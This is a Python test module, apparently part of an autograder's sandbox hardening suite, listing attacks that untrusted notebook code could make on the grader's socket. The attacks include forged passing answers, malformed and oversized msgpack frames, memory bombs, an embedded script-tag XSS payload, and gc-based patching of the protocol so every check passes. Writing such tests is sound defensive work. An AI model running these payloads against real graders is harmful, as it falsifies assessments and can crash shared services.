"""Attacks on the connection to the grader: forged answers, frames that are none, endless questions.

Each finds the socket among the inherited descriptors. Under stock nbgrader there is none like it.
"""

import textwrap
from collections.abc import Iterator

from attack import Attack, doing, returning

from autograder.sandbox.worker import plain

CODES = f"""
ARRAY, TEXTS, TUPLE, CALLABLE = {plain.ARRAY, plain.TEXTS, plain.TUPLE, plain.CALLABLE}
"""
FIND = (
    CODES
    + """
import fcntl, socket, stat, struct
try:
    import msgpack
except ImportError:
    msgpack = None
def channels():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield socket.socket(fileno=os.dup(fd))
        except OSError:
            pass
def send(*parts):
    for channel in channels():
        channel.settimeout(1)
        try:
            for part in parts:
                channel.sendall(part)
        except OSError as error:
            print(error)
def frame(content):
    return struct.pack("!I", len(content)) + content
def number():
    # Of the request that is being answered: the process's own half of the protocol knows it.
    import gc
    return max((o.number for o in gc.get_objects() if type(o).__name__ == "Child"), default=1)
def reply(*parts):
    now = number()
    return b"".join(frame(msgpack.packb([n, *parts])) for n in (now, now + 1, now + 2))
def ext(code, content):
    return msgpack.packb(msgpack.ExtType(code, content))
def returned(packed):
    # [number, "returned", packed, 0, None, ""]
    head = b"\\x96" + msgpack.packb(number()) + msgpack.packb("returned")
    return frame(head + packed + b"\\x00\\xc0\\xa0")
"""
)
NUMBERS = """
def answers():
    for value in (48151.6, {"secret": [6]}, 4.0):
        yield reply("returned", value, 0, None, "")
"""
FIND_CHILD = """
import gc
def child():
    return next((o for o in gc.get_objects() if type(o).__name__ == "Child"), None)
def patch():
    if child() is None:
        return
    kind = type(child())
    names = ["abs", "round", "float", "len", "all", "isinstance", "np", "close", "replaced",
             "AssertionError", "got", "made", "points", "print", "sum", "any"]
    kind.do_look = lambda self, names: ["found", {name: ["function"] for name in names}]
    kind.do_call = lambda self, name, packed, count: ["returned", True, 0, None, ""]
    kind.do_replace = lambda self, *args: ["replaced"]
"""
SENDING = {
    "forged_outputs": (
        "shows outputs that were never made, in the place of its cells'",
        """
        mark = {"output_type": "execute_result", "data": {"text/plain": "10.0"}, "metadata": {},
                "execution_count": 1}
        script = {"output_type": "display_data", "metadata": {},
                  "data": {"text/html": "<script>alert(1)</script>", "image/svg+xml": "<svg/>"}}
        send(*[reply("outputs", [mark, script, "x", None, {"data": 3}], False)] * 3)
        """,
    ),
    "forged_counts": (
        "shows results with impossible numbers",
        """
        counts = [-1, 2**63, 1.5, True, "<b>", None]
        send(reply("outputs", [{"output_type": "execute_result", "data": {"text/plain": "1"},
             "execution_count": count, "metadata": {"a": 1}} for count in counts], False))
        """,
    ),
    "numbered_by_arrays": (
        "numbers its answers with arrays, which are equal to a number in part only",
        """
        head = msgpack.packb(["<f8", [2], "C"])
        array = ext(ARRAY, struct.pack("!H", len(head)) + head + bytes(16))
        send(frame(b"\\x96" + array + msgpack.packb("returned") + b"\\x00\\x00\\xc0\\xa0"))
        """,
    ),
    "wrong_kinds": (
        "answers with replies of another kind",
        """send(*[reply("begun"), reply("replaced"), reply("seeded"), reply("restored")] * 5)""",
    ),
    "giant_length": ("announces four gigabytes", 'send(b"\\xff\\xff\\xff\\xff", b"x" * 100)'),
    "half_a_frame": ("announces more than it sends", 'send(struct.pack("!I", 1000), b"x" * 10)'),
    "not_msgpack": ("sends bytes that are no message", "send(*[frame(os.urandom(2000))] * 5)"),
    "deep_message": ("sends lists in lists", 'send(frame(b"\\x91" * 1_000_000 + b"\\xc0"))'),
    "empty_lists": (
        "sends millions of empty lists",
        'send(returned(b"\\xdd" + struct.pack("!I", 30_000_000) + b"\\x90" * 30_000_000))',
    ),
    "claimed_lengths": (
        "claims lists and tables of four billion things",
        'send(returned(b"\\xdd\\xff\\xff\\xff\\xff"), returned(b"\\xdf\\xff\\xff\\xff\\xff"))',
    ),
}
SENDING_ARRAYS = {
    "claimed_array": (
        "claims an array of a thousand terabytes",
        """
        heads = [["<f8", [2**25, 2**25], "C"], ["<f8", [-1], "C"], ["<f8", [0, 2**26, 2**26], "C"],
                 ["|O", [1], "C"], ["<U999999999", [1], "C"], ["<M8[s]", [1], "C"],
                 ["<f8", [1] * 70, "C"], ["<f8", "x", "K"], ["<f8", [2**70], "C"], 5]
        packed = [msgpack.packb(head) for head in heads[:8]]
        for head in packed:
            send(returned(ext(ARRAY, struct.pack("!H", len(head)) + head + b"12345678")))
        send(returned(ext(ARRAY, b"")), returned(ext(99, b"")), returned(ext(CALLABLE, b"\\x05")))
        """,
    ),
    "text_bomb": (
        "sends few texts, one of them long, which numpy would store as many long ones",
        """
        texts = ["x" * 400_000] + [""] * 1_200
        send(returned(ext(TEXTS, msgpack.packb([[len(texts)], texts]))))
        """,
    ),
    "envelopes": (
        "sends a large thing in forty envelopes, each of which is a copy",
        """
        content = msgpack.packb(b"x" * 40_000_000)
        for _ in range(36):
            content = ext(TUPLE, b"\\x91" + content)
        send(returned(content))
        """,
    ),
    "big_questions": (
        "asks large questions that nobody answers, and that somebody might remember",
        """
        large = msgpack.packb([[b"x" * 50_000_000], {}])
        now = number()
        for channel in channels():
            channel.settimeout(1)
            try:
                for function in range(24):
                    channel.sendall(frame(msgpack.packb([now, "ask", function, large])))
                    channel.recv(1000)
            except OSError as error:
                print(error)
        """,
    ),
    "questions_for_others": (
        "asks for functions that were never offered to it",
        """
        for function in [0, 1, -1, 2**64 - 1, 1.0, None, "total", [], id(send), True]:
            for packed in [msgpack.packb([[1], {}]), msgpack.packb([[], {"x": 1}]), 5, b"\\xc1"]:
                send(reply("ask", function, packed))
        """,
    ),
}


def _attacks() -> Iterator[Attack]:
    for name, (tries, code) in {**SENDING, **SENDING_ARRAYS}.items():
        body = f"{textwrap.dedent(code).strip()}\nreturn 0.0"
        yield Attack(name, tries, FIND, {"total": doing(body)["total"]})


ATTACKS = [
    Attack(
        "forged_answers",
        "writes right-looking answers to questions not yet asked",
        FIND + NUMBERS,
        doing("send(*answers())\nreturn 0.0"),
    ),
    Attack(
        "forged_answers_early",
        "writes answers from a cell, and goes silent",
        FIND + NUMBERS + "import time\nif msgpack: send(*answers())\n",
        doing("time.sleep(60)"),
    ),
    Attack(
        "other_reader",
        "reads the grader's requests in a thread, and answers in the loop's place",
        FIND
        + """
import threading
def read():
    for channel in channels():
        channel.settimeout(3)
        try:
            while (got := channel.recv(65536)):
                print(got)
                channel.sendall(reply("returned", 4.0, 0, None, repr(got)[:500]))
        except OSError:
            pass
""",
        doing("threading.Thread(target=read, daemon=True).start()\nreturn 0.0"),
    ),
    Attack(
        "child_patched",
        "patches the process's own half of the protocol: everything is a function, and says yes",
        FIND_CHILD + "patch()\n",
        returning("0.0"),
    ),
    Attack(
        "codec_patched",
        "packs whatever it likes with the protocol's own codec",
        """
import gc
def codec():
    return [o for o in gc.get_objects() if type(o) is dict and "MAX_FRAME" in o and "_Sender" in o]
for space in codec():
    space["MAX_FRAME"] = space["MAX_ITEMS"] = space["MAX_DEPTH"] = 10**12
    space["DTYPES"] = {"|O", "<U5"} | set(space["DTYPES"])
""",
        returning("[np.zeros((3000, 3000))] * 2"),
    ),
    *_attacks(),
]
